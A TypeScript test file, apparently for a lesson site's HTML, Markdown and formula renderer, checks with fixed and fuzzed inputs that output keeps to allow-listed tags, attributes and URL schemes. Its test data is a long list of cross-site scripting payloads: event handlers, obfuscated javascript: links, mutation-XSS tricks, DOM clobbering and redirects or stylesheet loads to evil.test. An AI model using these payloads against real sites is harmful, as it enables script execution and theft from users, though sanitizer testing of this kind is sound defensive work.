import fc from 'fast-check';
import sanitizeHtml from 'sanitize-html';
import { cleanHtml } from './clean-html.ts';
import { renderBlock } from './render-block.ts';
import { renderMarkdown } from './render-markdown.ts';
import { toPlainText } from './to-plain-text.ts';

const tags = new Set(
  [
    'a abbr b blockquote br caption cite code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li',
    'mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var',
    'math semantics annotation menclose mfrac mi mn mo mover mpadded mphantom mroot mrow mspace msqrt mstyle msub msubsup msup',
    'mtable mtd mtext mtr munder munderover',
  ].flatMap((line) => line.split(' ')),
);
const attributes = new Set(
  [
    'href title rel src alt width height referrerpolicy start colspan rowspan align class',
    'xmlns encoding accent accentunder columnalign columnspacing columnlines depth display displaystyle fence form linebreak linethickness',
    'lspace rspace mathbackground mathcolor mathsize mathvariant maxsize minsize notation rowlines rowspacing scriptlevel separator',
    'stretchy voffset',
  ].flatMap((line) => line.split(' ')),
);
const classes = /^(?:katex|language-[\w-]+|hljs-[a-z_-]+(?: [a-z]+_+)*)$/;
const page = 'https://school.test/lesson';

/** Everything in a result that is not on the lists. */
function findForbidden(html: string): string[] {
  const forbidden: string[] = [];
  const look = (tagName: string, attribs: Record<string, string>) => {
    if (!tags.has(tagName)) forbidden.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(attribs)) {
      const isFine =
        attributes.has(name) &&
        (name !== 'class' || classes.test(value)) &&
        (!/^(?:href|src)$/.test(name) || isAllowedAddress(value));
      if (!isFine) forbidden.push(`<${tagName} ${name}="${value}">`);
    }
    return { tagName, attribs };
  };
  sanitizeHtml(html, { allowedTags: false, allowedAttributes: false, allowVulnerableTags: true, transformTags: { '*': look } });
  return forbidden;
}

/** As a browser reads it: what names no scheme stays on the site. */
function isAllowedAddress(address: string): boolean {
  if (!URL.canParse(address, page)) return true;
  const { protocol, host } = new URL(address, page);
  return ['http:', 'https:', 'mailto:'].includes(protocol) && (/^[a-z]+:/i.test(address) || host === 'school.test');
}

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.test/x.png"onerror="alert(1)">',
  '<img/src=`x`/onerror=alert(1)>',
  '<p onclick=alert(1) OnMouseOver="alert(1)">text</p>',
  '<details open ontoggle=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&#58;alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="//evil.test">a</a>',
  '<a href="/\\evil.test">a</a>',
  '<a href="\\\\evil.test">a</a>',
  '<a href="/\t/evil.test">a</a>',
  '[a](//evil.test) ![b](//evil.test/x.png) <//evil.test>',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '<a href="https://a.test" target="_blank" rel="opener" ping="https://evil.test">a</a>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=1>a</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">a</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>*{background:url(https://evil.test)}</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:1)">a</p>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<a id=location name=cookie>a</a><img name=getElementById src=https://a.test/x.png>',
  '<form action=https://evil.test><input name=password><button formaction=javascript:1>go</button></form>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe><iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x.swf><embed src=x.swf></object><applet code=x>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template><slot name=x></slot>',
  '<video src=x onerror=alert(1)><source src=x></video><audio autoplay src=//evil.test>',
  '<div><b><a href="',
  '<div title="\n\n$x$ ![a](https://a.test "b")\n\n```js\n"><img src=x onerror=alert(1)>\n```',
  "<div title='\n\n$\\text{'><img src=x onerror=alert(1)>}$\n",
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;',
  '<div>\n\n**[a](javascript:1)** <img src=x onerror=1>\n\n</div>',
  '| a |\n|:-:|\n| <td onclick=1 style="color:red"> |',
  '<lyceum-slot key="x"><script>alert(1)</script></lyceum-slot><lyceum-slot onclick=1 key>',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '$\\includegraphics[alt=x]{https://evil.test/x.png}$',
  '$\\htmlClass{x}{y} \\htmlId{x}{y} \\htmlStyle{color:red}{y} \\htmlData{a=b}{y}$',
  '$\\text{<script>alert(1)</script>}$ $\\color{"><script>}x$ $</annotation><script>$',
  '$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b}\\b$',
  `$${'{'.repeat(990)}x${'}'.repeat(990)}$`,
  `$${'{'.repeat(3000)}x${'}'.repeat(3000)}$`,
  `\`\`\`html"onclick="alert(1)\n<script>alert(1)</script>\n\`\`\``,
  '```xml\n<a b="</span><script>alert(1)</script>">\n```',
  'a\u0000<\u0000script>alert(1)</script>\uFFFE\uD800',
];

describe('what a hostile author writes', () => {
  it.each(attacks)('is shown with tags, attributes and schemes of the lists alone: %j', (attack) => {
    for (const html of [
      renderMarkdown(attack),
      renderBlock({ id: 'a', type: 'html', html: attack }),
      renderBlock({ id: 'a', type: 'code', language: 'xml', code: attack }),
      renderBlock({ id: 'a', type: 'formula', tex: attack, caption: attack }),
      renderBlock({ id: 'a', type: 'table', caption: attack, header: [attack], rows: [[], [attack, attack]] }),
    ]) {
      expect(findForbidden(html)).toEqual([]);
    }
    expect(cleanHtml(cleanHtml(attack))).toBe(cleanHtml(attack));
    expect(toPlainText({ id: 'a', type: 'html', html: attack })).not.toMatch(/\s\s|\n/);
  });

  const part = fc.oneof(
    fc.constantFrom(...attacks.flatMap((attack) => attack.match(/\w+|\W/g) ?? [])),
    fc.constantFrom(...attacks, '\n\n', '$$', '```\n', '    ', '> ', '- ', '|'),
    fc.string({ unit: 'binary', maxLength: 5 }),
  );
  it('is shown so, whatever it is composed of', () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 40 }), (parts) => {
        const text = parts.join('');
        expect(findForbidden(renderMarkdown(text))).toEqual([]);
        expect(findForbidden(cleanHtml(text))).toEqual([]);
        // A link within a link is taken apart when it is read again, as browsers do.
        expect(findForbidden(cleanHtml(cleanHtml(text)))).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });
});
